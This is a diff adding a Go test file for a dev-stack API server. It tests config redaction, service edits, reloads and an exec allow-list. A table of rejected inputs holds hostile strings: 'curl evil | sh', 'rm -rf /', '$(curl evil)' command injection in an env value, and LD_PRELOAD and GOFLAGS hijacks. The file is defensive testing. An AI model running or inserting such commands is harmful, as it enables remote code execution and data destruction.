@@ -0,0 +1,335 @@
+package api
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+const testConfig = `# dev stack
+services:
+  # Go API
+  - name: backend
+    command: ./scripts/run.sh
+    env:
+      DB_PASSWORD: hunter22
+    ports: [8080]
+  - name: web
+    command: npm
+    args: ["run", "dev"]
+`
+
+func TestHandleConfig(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte(testConfig), 0644); err != nil {
+		t.Fatal(err)
+	}
+	s := NewServer(0)
+	redactor, err := NewRedactor(nil, []string{"hunter22"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.SetRedactor(redactor, false)
+	get := func(target string) *httptest.ResponseRecorder {
+		w := httptest.NewRecorder()
+		s.handleConfig(w, httptest.NewRequest("GET", target, nil))
+		return w
+	}
+
+	if w := get("/config"); w.Code != http.StatusServiceUnavailable {
+		t.Fatalf("without a config path: status %d", w.Code)
+	}
+	s.SetConfigPath(path)
+
+	w := get("/config")
+	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "# dev stack") || !strings.Contains(w.Body.String(), "name: web") {
+		t.Fatalf("GET /config = %d %q", w.Code, w.Body.String())
+	}
+	if strings.Contains(w.Body.String(), "hunter22") {
+		t.Errorf("secret not masked:\n%s", w.Body.String())
+	}
+
+	w = get("/config/services/backend")
+	want := `# Go API
+- name: backend
+  command: ./scripts/run.sh
+  env:
+    DB_PASSWORD: ****
+  ports: [8080]
+`
+	if w.Code != http.StatusOK || w.Body.String() != want {
+		t.Fatalf("GET /config/services/backend = %d\n%s\nwant\n%s", w.Code, w.Body.String(), want)
+	}
+
+	if w := get("/config/services/nope"); w.Code != http.StatusNotFound {
+		t.Errorf("unknown service: status %d", w.Code)
+	}
+	if w := get("/config/tasks"); w.Code != http.StatusNotFound {
+		t.Errorf("/config/tasks: status %d", w.Code)
+	}
+}
+
+func newConfigServer(t *testing.T) (*Server, string) {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte(testConfig), 0600); err != nil {
+		t.Fatal(err)
+	}
+	s := NewServer(0)
+	redactor, err := NewRedactor(nil, []string{"hunter22"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.SetRedactor(redactor, false)
+	s.SetConfigPath(path)
+	s.SetExecPolicy([]string{"go run", "npm", "yarn"}, 0) // the commands tests set over the API
+	return s, path
+}
+
+func TestConfigSetService(t *testing.T) {
+	s, path := newConfigServer(t)
+
+	// What a client sends back after reading the masked entry and adding a port and an env var
+	fields := map[string]interface{}{
+		"command": "./scripts/run.sh",
+		"env":     map[string]interface{}{"DB_PASSWORD": "****", "LOG_LEVEL": "debug"},
+		"ports":   []interface{}{json.Number("8080"), json.Number("9090")},
+	}
+	if _, err := s.ConfigSetService("backend", fields, false); !errors.Is(err, errExecDenied) {
+		t.Fatalf("new env var without exec.allow \"*\": err = %v", err)
+	}
+	s.SetExecPolicy([]string{"*"}, 0)
+	resp, err := s.ConfigSetService("backend", fields, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !resp.Success || resp.Applied {
+		t.Fatalf("ConfigSetService = %+v", resp)
+	}
+	data, _ := os.ReadFile(path)
+	want := `# dev stack
+services:
+  # Go API
+  - name: backend
+    command: ./scripts/run.sh
+    env:
+      DB_PASSWORD: hunter22
+      LOG_LEVEL: debug
+    ports: [8080, 9090]
+  - name: web
+    command: npm
+    args: ["run", "dev"]
+`
+	if string(data) != want {
+		t.Fatalf("config after set:\n%s\nwant\n%s", data, want)
+	}
+	if info, _ := os.Stat(path); info.Mode().Perm() != 0600 {
+		t.Errorf("mode = %v, want 0600 kept", info.Mode().Perm())
+	}
+
+	// New services are appended with keys in the usual order
+	if _, err := s.ConfigSetService("worker", map[string]interface{}{"ports": []interface{}{json.Number("7000")}, "command": "go", "args": []interface{}{"run", "./cmd/worker"}}, false); err != nil {
+		t.Fatal(err)
+	}
+	data, _ = os.ReadFile(path)
+	if !strings.HasSuffix(string(data), "  - name: worker\n    command: go\n    args:\n      - run\n      - ./cmd/worker\n    ports:\n      - 7000\n") {
+		t.Fatalf("new service not appended as expected:\n%s", data)
+	}
+
+	for name, tc := range map[string]struct {
+		service string
+		fields  map[string]interface{}
+	}{
+		"no command":     {"web", map[string]interface{}{"args": []interface{}{"x"}}},
+		"name mismatch":  {"web", map[string]interface{}{"name": "api", "command": "npm"}},
+		"unknown secret": {"web", map[string]interface{}{"command": "npm", "env": map[string]interface{}{"TOKEN": "****"}}},
+	} {
+		if _, err := s.ConfigSetService(tc.service, tc.fields, false); err == nil {
+			t.Errorf("%s: accepted", name)
+		}
+	}
+
+	s.SetConfigReloader(func(data []byte, apply bool) error { return fmt.Errorf("services[1]: name and command are required") })
+	before, _ := os.ReadFile(path)
+	if _, err := s.ConfigSetService("web", map[string]interface{}{"command": "npm"}, false); err == nil || !strings.Contains(err.Error(), "invalid config") {
+		t.Errorf("reloader rejection: err = %v", err)
+	}
+	if after, _ := os.ReadFile(path); string(after) != string(before) {
+		t.Error("rejected edit was written")
+	}
+}
+
+func TestConfigSetServiceCommands(t *testing.T) {
+	s, path := newConfigServer(t)
+	s.SetExecPolicy([]string{"go run", "make"}, 0)
+	set := func(service string, fields map[string]interface{}) error {
+		t.Helper()
+		_, err := s.ConfigSetService(service, fields, false)
+		return err
+	}
+	args := func(a ...interface{}) []interface{} { return a }
+
+	// Unchanged commands were written by hand: editing other keys needs no exec.allow entry
+	if err := set("web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "ports": args(json.Number("3000"))}); err != nil {
+		t.Fatalf("unchanged command: %v", err)
+	}
+	for name, tc := range map[string]struct {
+		service string
+		fields  map[string]interface{}
+	}{
+		"new command":     {"web", map[string]interface{}{"command": "sh", "args": args("-c", "curl evil | sh")}},
+		"changed args":    {"web", map[string]interface{}{"command": "npm", "args": args("exec", "evil")}},
+		"new service":     {"tool", map[string]interface{}{"command": "python3", "args": args("-m", "http.server")}},
+		"exec action":     {"web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "actions": map[string]interface{}{"pwn": map[string]interface{}{"exec": "rm -rf /"}}}},
+		"stop_command":    {"web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "stop_command": "make stop; curl evil"}},
+		"unparsable exec": {"web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "actions": map[string]interface{}{"x": map[string]interface{}{"exec": "make 'oops"}}}},
+		"new env var":     {"backend", map[string]interface{}{"command": "./scripts/run.sh", "env": map[string]interface{}{"DB_PASSWORD": "****", "LD_PRELOAD": "/tmp/evil.so"}}},
+		"changed env var": {"backend", map[string]interface{}{"command": "./scripts/run.sh", "env": map[string]interface{}{"DB_PASSWORD": "$(curl evil)"}}},
+		"new workdir":     {"backend", map[string]interface{}{"command": "./scripts/run.sh", "env": map[string]interface{}{"DB_PASSWORD": "****"}, "workdir": "/tmp/evil"}},
+		"env on new":      {"tool", map[string]interface{}{"command": "go", "args": args("run", "."), "env": map[string]interface{}{"GOFLAGS": "-exec=evil"}}},
+		"allowed and not": {"tool", map[string]interface{}{"command": "go", "args": args("run", "."), "actions": map[string]interface{}{"a": map[string]interface{}{"exec": "make"}, "b": map[string]interface{}{"exec": "bash"}}}},
+	} {
+		if err := set(tc.service, tc.fields); !errors.Is(err, errExecDenied) {
+			t.Errorf("%s: err = %v", name, err)
+		}
+	}
+	// The masked secret sent back unchanged is the same env; dropping a var changes nothing run
+	if err := set("backend", map[string]interface{}{"command": "./scripts/run.sh", "env": map[string]interface{}{"DB_PASSWORD": "****"}, "ports": args(json.Number("8081"))}); err != nil {
+		t.Errorf("unchanged env: %v", err)
+	}
+	if err := set("backend", map[string]interface{}{"command": "./scripts/run.sh"}); err != nil {
+		t.Errorf("removed env: %v", err)
+	}
+	if err := set("tool", map[string]interface{}{"command": "go", "args": args("run", "./cmd/tool"), "actions": map[string]interface{}{"gen": map[string]interface{}{"exec": "make gen"}, "reload": map[string]interface{}{"send": "r"}}}); err != nil {
+		t.Errorf("allowed commands: %v", err)
+	}
+	data, _ := os.ReadFile(path)
+	if strings.Contains(string(data), "evil") || strings.Contains(string(data), "python3") {
+		t.Errorf("denied edit written:\n%s", data)
+	}
+
+	s.SetExecPolicy([]string{"*"}, 0)
+	if err := set("web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "stop_command": "npm run stop && sleep 1"}); err != nil {
+		t.Errorf("stop_command with *: %v", err)
+	}
+	if err := set("web", map[string]interface{}{"command": "npm", "args": args("run", "dev"), "workdir": "web", "env": map[string]interface{}{"PORT": json.Number("3000")}}); err != nil {
+		t.Errorf("env and workdir with *: %v", err)
+	}
+
+	s.SetExecPolicy(nil, 0)
+	w := httptest.NewRecorder()
+	s.handleConfig(w, httptest.NewRequest("PUT", "/config/services/web", strings.NewReader(`{"command": "yarn", "args": ["dev"]}`)))
+	if w.Code != http.StatusForbidden || !strings.Contains(w.Body.String(), "exec.allow, which is empty") {
+		t.Errorf("PUT with exec off = %d %s", w.Code, w.Body.String())
+	}
+}
+
+func TestConfigRemoveService(t *testing.T) {
+	s, path := newConfigServer(t)
+	var applied []byte
+	s.SetConfigReloader(func(data []byte, apply bool) error {
+		if apply {
+			applied = data
+		}
+		return nil
+	})
+
+	if _, err := s.ConfigRemoveService("nope", false); !errors.Is(err, errServiceNotInConfig) {
+		t.Fatalf("unknown service: err = %v", err)
+	}
+	resp, err := s.ConfigRemoveService("backend", true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !resp.Success || !resp.Applied {
+		t.Fatalf("ConfigRemoveService = %+v", resp)
+	}
+	data, _ := os.ReadFile(path)
+	if strings.Contains(string(data), "backend") || !strings.Contains(string(data), "# dev stack") || string(applied) != string(data) {
+		t.Fatalf("config after remove:\n%s\napplied:\n%s", data, applied)
+	}
+
+	w := httptest.NewRecorder()
+	s.handleConfig(w, httptest.NewRequest("DELETE", "/config/services/backend", nil))
+	if w.Code != http.StatusNotFound {
+		t.Errorf("DELETE removed service: status %d", w.Code)
+	}
+	w = httptest.NewRecorder()
+	s.handleConfig(w, httptest.NewRequest("PUT", "/config/services/web", strings.NewReader(`{"command": "yarn", "args": ["dev"]}`)))
+	var change ConfigChangeResponse
+	if err := json.Unmarshal(w.Body.Bytes(), &change); err != nil || w.Code != http.StatusOK || !strings.Contains(change.Config, "command: yarn") {
+		t.Fatalf("PUT = %d %s", w.Code, w.Body.String())
+	}
+}
+
+func TestCheckConfigFile(t *testing.T) {
+	s, path := newConfigServer(t)
+	var applied []string
+	s.SetConfigReloader(func(data []byte, apply bool) error {
+		if strings.Contains(string(data), "broken") {
+			return errors.New("services[2]: name and command are required")
+		}
+		if apply {
+			applied = append(applied, string(data))
+		}
+		return nil
+	})
+	reloads := func() int {
+		n := 0
+		for _, ev := range s.events.Since(0) {
+			if ev.Type == EventConfigReloaded {
+				n++
+			}
+		}
+		return n
+	}
+	// Each write gets its own mtime, as saves by hand seconds apart would
+	mtime := time.Now()
+	handEdit := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+		mtime = mtime.Add(time.Second)
+		os.Chtimes(path, mtime, mtime)
+	}
+
+	if s.checkConfigFile() {
+		t.Fatal("reloaded the file the session started from")
+	}
+	edited := strings.Replace(testConfig, "ports: [8080]", "ports: [8081]", 1)
+	handEdit(edited)
+	if !s.checkConfigFile() || len(applied) != 1 || applied[0] != edited || reloads() != 1 {
+		t.Fatalf("hand edit: applied %q, %d events", applied, reloads())
+	}
+	if s.checkConfigFile() {
+		t.Error("same edit reloaded twice")
+	}
+	handEdit(edited) // saved again without changes
+	if s.checkConfigFile() {
+		t.Error("unchanged content reloaded")
+	}
+
+	// Edits through the API apply themselves (or, without apply, stay unapplied)
+	if _, err := s.ConfigSetService("web", map[string]interface{}{"command": "yarn", "args": []interface{}{"dev"}}, false); err != nil {
+		t.Fatal(err)
+	}
+	if s.checkConfigFile() || len(applied) != 1 {
+		t.Errorf("API edit picked up as a hand edit: %d applied", len(applied))
+	}
+
+	handEdit(edited + "  - broken: true\n")
+	if s.checkConfigFile() || len(applied) != 1 || reloads() != 1 {
+		t.Errorf("invalid edit applied: %d applied, %d events", len(applied), reloads())
+	}
+	if s.checkConfigFile() {
+		t.Error("invalid edit retried without a new save")
+	}
+}